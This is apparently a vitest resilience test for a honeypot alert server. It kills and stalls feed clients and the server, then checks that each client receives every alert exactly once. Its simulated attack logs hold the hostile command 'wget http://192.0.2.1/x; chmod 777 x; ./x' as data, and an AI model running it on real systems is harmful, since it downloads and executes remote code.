import { type ChildProcess, spawn } from 'node:child_process'
import { setTimeout as sleep } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import type { Alert, Page } from '@eviltwin/contract'
import { expect, test } from 'vitest'
import { until } from '../server/src/testing/until.js'
import { accessToken, createInstallation, PASSWORD, reader, SENSOR_KEY } from './server-process.js'

const CLIENT = fileURLToPath(new URL('./feed-client.mjs', import.meta.url))
const CLIENTS = 6

/** A feed client that goes on where it was when it is killed and started again. */
function startClient(url: string, token: string) {
  const ids: string[] = []
  let child: ChildProcess
  const start = () => {
    let rest = ''
    child = spawn(process.execPath, [CLIENT, url, token, ids.at(-1) ?? '0'], {
      stdio: ['ignore', 'pipe', 'inherit'],
    })
    child.stdout?.on('data', (chunk) => {
      const lines = `${rest}${chunk}`.split('\n')
      rest = lines.pop() ?? ''
      ids.push(...lines)
    })
  }
  start()
  const kill = async () => {
    const ended = new Promise((resolve) => child.once('close', resolve))
    child.kill('SIGKILL')
    await ended
  }
  return {
    ids,
    kill,
    signal: (name: NodeJS.Signals) => child.kill(name),
    async killAndRestart() {
      await kill()
      start()
    },
  }
}

/** Sends one attack after another, each of a new source, until told to stop; one that was refused is sent again. */
function attack(url: string) {
  let attacking = true
  let acknowledged = 0
  const running = (async () => {
    while (attacking) {
      const body = JSON.stringify({
        source_ip: `198.51.${acknowledged >> 8}.${acknowledged & 255}`,
        session: 's',
        time: new Date().toISOString(),
        command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
      })
      const answered = await fetch(`${url}/log`, {
        method: 'POST',
        headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json' },
        body,
        signal: AbortSignal.timeout(20_000),
      }).then(
        ({ ok }) => ok,
        () => false,
      )
      if (answered) acknowledged += 1
      await sleep(5)
    }
  })()
  return {
    async stop() {
      attacking = false
      await running
      return acknowledged
    },
  }
}

test('clients killed and stalled, the server killed with -9: every client has every alert exactly once', async () => {
  const installation = await createInstallation({
    ADMIN_PASSWORD: PASSWORD,
    BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
  })
  let server = await installation.start()
  const token = await accessToken(installation.url)
  const clients = Array.from({ length: CLIENTS }, () => startClient(installation.url, token))
  /** Resolves when a client has received something new. */
  const goesOn = async (client: number) => {
    const received = clients[client]?.ids.length ?? 0
    await until(() => (clients[client]?.ids.length ?? 0) > received)
  }
  try {
    const load = attack(installation.url)
    await until(() => clients.every(({ ids }) => ids.length > 20))
    clients[0]?.signal('SIGSTOP')
    await clients[1]?.killAndRestart()
    await goesOn(1)
    await server.kill('SIGKILL')
    server = await installation.start()
    await goesOn(3)
    await clients[2]?.killAndRestart()
    clients[0]?.signal('SIGCONT')
    server.process.kill('SIGSTOP')
    // How long the server stands still.
    await sleep(500)
    server.process.kill('SIGCONT')
    for (const client of clients.keys()) await goesOn(client)
    await until(() => clients.every(({ ids }) => ids.length > 60))
    const attacks = await load.stop()
    const read = await reader(installation.url)
    await until(async () => (await read<Page<Alert>>('/alerts?count=true&limit=1')).total === attacks)
    await until(() => clients.every(({ ids }) => ids.length >= attacks))
    for (const { ids } of clients) {
      expect(new Set(ids).size).toBe(ids.length)
      expect(ids).toHaveLength(attacks)
    }
    expect(attacks).toBeGreaterThan(50)
    console.info(`${CLIENTS} clients, each with all ${attacks} alerts exactly once`)
  } finally {
    for (const client of clients) await client.kill()
    await server.kill('SIGTERM')
    installation.remove()
  }
})
